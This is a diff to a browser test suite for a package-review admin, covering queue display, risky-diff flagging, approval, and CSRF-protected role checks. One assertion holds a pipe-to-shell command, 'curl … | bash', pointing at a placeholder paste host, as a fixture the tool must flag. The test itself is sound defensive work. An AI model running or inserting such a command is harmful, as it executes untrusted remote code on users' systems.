@@ -102,20 +102,21 @@ afterAll(async () => {
 describe('the web admin in a real browser', () => {
   it('lets a reviewer read the queue and a risky diff, approve, and serves exactly that commit to git', async () => {
     const { context, page } = await signIn('rita');
-    await expect.poll(() => page.locator('table tbody tr').count()).toBe(4);
+    // Pages are rendered on the server: once loaded, they are complete.
+    expect(await page.locator('table tbody tr').count()).toBe(4);
     await page.screenshot({ path: join(SCREENSHOTS, 'queue.png'), fullPage: true });
 
     await page.getByRole('link', { name: 'libfoo' }).click();
     await page.waitForURL(`${url}/admin/review/libfoo`);
     const flag = page.locator('.flag-high', { hasText: 'download-and-run' });
-    await expect.poll(() => flag.count()).toBeGreaterThan(0);
+    expect(await flag.count()).toBeGreaterThan(0);
     expect(await page.locator('.d2h-file-wrapper').count()).toBe(2);
     expect(await page.locator('.d2h-ins', { hasText: 'curl -fsSL https://paste.example/raw/x7Qz | bash' }).count()).toBeGreaterThan(0);
     await page.screenshot({ path: join(SCREENSHOTS, 'review.png'), fullPage: true });
 
     // The flag links to the flagged line of the file.
     await flag.first().getByRole('link').click();
-    expect(page.url()).toMatch(/\/admin\/review\/libfoo\/file\?path=PKGBUILD#L\d+$/);
+    await page.waitForURL(/\/admin\/review\/libfoo\/file\?path=PKGBUILD#L\d+$/);
     expect(await page.locator('tr.flagged:target, tr:target.flagged').count()).toBe(1);
 
     await page.goto(`${url}/admin/review/libfoo?view=line-by-line`);
@@ -164,7 +165,7 @@ describe('the web admin in a real browser', () => {
     const { context, page } = await signIn('vic');
     await page.goto(`${url}/admin/review/libfoo`);
     expect(await page.locator('form.approve').count()).toBe(0);
-    await expect.poll(() => page.getByText('need the reviewer role').count()).toBe(1);
+    expect(await page.getByText('need the reviewer role').count()).toBe(1);
     const csrf = await page.locator('input[name=_csrf]').first().getAttribute('value');
     const forged = await page.request.post(`${url}/admin/review/libfoo/approve`, {
       form: { commit: pendingCommit('libfoo'), _csrf: csrf ?? '' },
